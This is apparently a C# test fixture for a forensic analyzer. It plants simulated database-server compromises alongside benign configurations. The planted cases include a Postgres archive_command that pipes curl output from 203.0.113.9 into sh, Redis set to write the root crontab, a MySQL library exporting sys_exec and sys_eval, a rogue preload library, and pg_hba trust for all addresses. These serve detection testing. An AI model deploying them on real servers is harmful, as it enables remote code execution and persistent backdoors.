using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Database servers.</summary>
internal static class DatabasePlants
{
    private const string Postgres = "/etc/postgresql/15/main/postgresql.conf";

    public static IReadOnlyList<Plant> All { get; } =
    [
        new("L-DB", "archive-command-with-a-download", Loud, tree => tree.File(Postgres, "archive_mode = on\narchive_command = 'curl -s http://203.0.113.9/x | sh; test ! -f /mnt/wal/%f'\n")),
        new("L-DB", "redis-writes-crontabs", Quiet, tree => tree.File("/etc/redis/redis.conf", "bind 0.0.0.0\ndir /var/spool/cron/crontabs\ndbfilename root\n")) { Entries = ["/etc/redis/redis.conf"], Rule = "writes-persistence" },
        new("L-DB", "archive-command-of-a-hidden-program", Quiet, tree => tree.File(Postgres, "archive_command = '/var/lib/postgresql/.wal/push %p'\n").Program("/var/lib/postgresql/.wal/push")) { Entries = [Postgres] },
        new("L-DB", "preloaded-library-in-tmp", Quiet, tree => tree.File(Postgres, "shared_preload_libraries = 'pg_stat_statements,/var/tmp/.pg/cache'\n").Program("/var/tmp/.pg/cache.so", new PlantedElf { Seed = "pgcache", IsLibrary = true })) { Entries = [Postgres] },
        new("L-DB", "program-in-the-data-directory", Quiet, tree => tree.Program("/var/lib/postgresql/15/main/tracepath")) { Rule = "program-among-data" },
        new("L-DB", "redis-module", Quiet, tree => tree.File("/etc/redis/redis.conf", "loadmodule /var/lib/redis/exp.so\n").Program("/var/lib/redis/exp.so", new PlantedElf { Seed = "exp", IsLibrary = true })) { Entries = ["/etc/redis/redis.conf"] },
        new("L-DB", "library-of-functions", Quiet, tree => tree.Program("/usr/lib/mysql/plugin/lib_cache.so", new PlantedElf { Seed = "udf", IsLibrary = true, Exports = ["sys_exec", "sys_eval"] })) { Rule = "foreign-library" },
        new("L-DB", "trust-for-all", Loud, tree => tree.File("/etc/postgresql/15/main/pg_hba.conf", "local all all peer\nhost all all 0.0.0.0/0 trust\n")) { AtLeast = Severity.Medium, Rule = "open" },

        new("L-DB", "stock-settings", Benign, tree => tree.File(Postgres, "shared_preload_libraries = 'pg_stat_statements'\narchive_command = 'test ! -f /mnt/wal/%f && cp %p /mnt/wal/%f'\nlisten_addresses = '*'\n")
            .File("/etc/postgresql/15/main/pg_hba.conf", "local all all peer\nhost all all 127.0.0.1/32 scram-sha-256\nhost all all 10.0.0.0/8 md5\n").File("/etc/redis/redis.conf", "bind 127.0.0.1\ndir /var/lib/redis\ndbfilename dump.rdb\nlogfile /var/log/redis/redis-server.log\n")),
        new("L-DB", "plugins-of-a-package", Benign, tree => tree.Owned("mariadb-server", "/usr/lib/mysql/plugin/auth_pam.so", new PlantedElf { Seed = "auth_pam", IsLibrary = true }.Build()).File("/etc/mysql/conf.d/plugins.cnf", "[mysqld]\nplugin_load_add = auth_pam\nplugin-dir = /usr/lib/mysql/plugin\ngeneral_log_file = /var/log/mysql/mysql.log\n")),
        new("L-DB", "backup-by-wal-g", Benign, tree => tree.File(Postgres, "archive_command = 'envdir /etc/wal-g.d/env /usr/local/bin/wal-g wal-push %p'\n").Program("/usr/local/bin/wal-g", new PlantedElf { Seed = "wal-g", IsStatic = true })),
    ];
}
